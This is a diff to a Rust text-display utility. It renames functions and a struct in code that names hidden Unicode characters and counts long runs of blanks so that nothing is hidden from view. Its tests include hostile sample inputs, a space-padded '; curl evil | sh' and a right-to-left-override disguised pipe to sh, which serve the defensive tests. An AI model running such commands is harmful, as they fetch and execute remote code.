@@ -8,7 +8,7 @@
 
 use std::collections::VecDeque;
 
-use crate::sanitizer::is_unseen;
+use crate::sanitizer::is_invisible_char;
 
 /// The maximum number of characters of a text that is shown whole.
 pub const MAX_CHARS: usize = 10_000;
@@ -16,7 +16,7 @@ pub const MAX_CHARS: usize = 10_000;
 const EMPTY_LINES: usize = 4;
 
 /// Returns the text with hidden characters named and runs of at least `long` blanks counted.
-pub fn show_exactly(text: &str, long: usize) -> String {
+pub fn reveal_hidden_characters(text: &str, long: usize) -> String {
     let mut shown = String::with_capacity(text.len());
     let mut rest = text;
     while let Some(c) = rest.chars().next() {
@@ -35,7 +35,7 @@ pub fn show_exactly(text: &str, long: usize) -> String {
             }
             ' ' | '\t' | '\n' => shown.push_str(run),
             // A no-break space looks like a plain one, and is another word to a shell.
-            _ if c.is_control() || c.is_whitespace() || is_unseen(c) => {
+            _ if c.is_control() || c.is_whitespace() || is_invisible_char(c) => {
                 shown.push_str(&format!("<U+{:04X}>", u32::from(c)));
             }
             _ => shown.push(c),
@@ -65,13 +65,13 @@ pub fn truncate_middle(text: &str) -> String {
 pub fn split_pages(text: &str, lines: usize) -> VecDeque<String> {
     let mut pages = VecDeque::new();
     let mut page = String::new();
-    let mut room = Room::new(lines);
+    let mut room = PageSpace::new(lines);
     for line in text.lines() {
         let mut rest: Vec<char> = line.chars().collect();
         loop {
             if room.lines == 0 || room.chars == 0 {
                 pages.push_back(std::mem::take(&mut page));
-                room = Room::new(lines);
+                room = PageSpace::new(lines);
             }
             let later = rest.split_off(rest.len().min(room.chars));
             room.chars -= rest.len();
@@ -91,12 +91,12 @@ pub fn split_pages(text: &str, lines: usize) -> VecDeque<String> {
 }
 
 /// The space left on a page.
-struct Room {
+struct PageSpace {
     lines: usize,
     chars: usize,
 }
 
-impl Room {
+impl PageSpace {
     fn new(lines: usize) -> Self {
         Self {
             lines,
@@ -111,7 +111,8 @@ mod tests {
 
     #[test]
     fn nothing_is_pushed_out_of_sight() {
-        let check = |text: &str, expected: &str| assert_eq!(show_exactly(text, 16), expected);
+        let check =
+            |text: &str, expected: &str| assert_eq!(reveal_hidden_characters(text, 16), expected);
         check("ls  -l\t x", "ls  -l\t x");
         check(
             &format!("ls{}; curl evil | sh ", " ".repeat(300)),
@@ -127,7 +128,8 @@ mod tests {
 
     #[test]
     fn hidden_characters_are_named() {
-        let check = |text: &str, expected: &str| assert_eq!(show_exactly(text, 16), expected);
+        let check =
+            |text: &str, expected: &str| assert_eq!(reveal_hidden_characters(text, 16), expected);
         check("ls \u{202e}hs.live | hs", "ls <U+202E>hs.live | hs");
         check("ls\u{a0}-la", "ls<U+00A0>-la");
         check(
